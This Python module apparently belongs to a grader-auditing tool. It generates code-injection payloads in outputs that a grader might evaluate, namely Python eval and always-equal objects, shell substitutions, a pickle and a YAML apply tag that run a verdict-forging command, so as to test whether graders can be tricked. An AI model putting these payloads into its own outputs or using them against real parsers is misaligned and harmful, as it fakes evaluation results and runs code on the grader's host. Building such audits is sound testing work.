"""Output that is code: a grader that evaluates, sources, unpickles or expands it runs it."""

from __future__ import annotations

import json
from collections.abc import Iterator
from functools import partial
from typing import Any, Final

from flightschool.audit.terminal.outputs import Output
from flightschool.audit.terminal.payloads import FORGE
from flightschool.audit.terminal.probes.contents import filled
from flightschool.audit.terminal.trial import Attack, Trial

__all__ = ["attacks"]

_FORGE_EXIT: Final = f"(__import__('os').system({FORGE!r}), __import__('os')._exit(0))"
_EQUAL: Final = (
    "type('E', (), {'__eq__': lambda s, o: True, '__ne__': lambda s, o: False, '__hash__': lambda s: 0,"
    " '__lt__': lambda s, o: True, '__gt__': lambda s, o: True, '__le__': lambda s, o: True,"
    " '__ge__': lambda s, o: True, '__sub__': lambda s, o: 0, '__rsub__': lambda s, o: 0,"
    " '__float__': lambda s: 0.0})()"
)


def attacks(trial: Trial) -> Iterator[Attack]:
    """One language after the other, in all outputs that are no programs."""
    if all(one.kind == "code" for one in trial.work.outputs):
        return
    flaw = "evaluated-output"
    pickled = b"cos\nsystem\n(V" + json.dumps(FORGE)[1:-1].replace('\\"', '"').encode() + b"\ntR."
    yield filled(trial, flaw, "a Python expression that writes the verdict", lambda _: _FORGE_EXIT.encode() + b"\n")
    yield filled(trial, flaw, "a Python expression that equals everything", lambda _: _EQUAL.encode() + b"\n")
    yield filled(trial, flaw, "shell commands that write the verdict", lambda _: f"{FORGE}\nexit 0\n".encode())
    yield filled(trial, flaw, "a shell substitution that writes the verdict", lambda _: f"$({FORGE})\n".encode())
    yield filled(trial, flaw, "a shell subscript that writes the verdict", lambda _: f"a[$({FORGE})0]\n".encode())
    yield filled(trial, flaw, "a pickle that writes the verdict", lambda _: pickled)
    yaml = f"!!python/object/apply:os.system [{json.dumps(FORGE)}]\n".encode()
    yield filled(trial, flaw, "a YAML tag that writes the verdict", lambda _: yaml)
    if any(one.kind in ("json", "jsonl", "table") for one in trial.work.outputs):
        for code in (_FORGE_EXIT, f"$({FORGE})", f"; {FORGE}; exit 0; #"):
            told = "code in the place of every value"
            yield filled(trial, flaw, told, partial(_in_form, code=code))


def _in_form(output: Output, code: str) -> bytes:
    if output.kind != "json":
        return code.encode() + b"\n"

    def mapped(value: Any) -> Any:
        if isinstance(value, dict):
            return {key: mapped(item) for key, item in value.items()}
        return [mapped(item) for item in value] if isinstance(value, list) else code

    return json.dumps(mapped(json.loads(output.text))).encode()
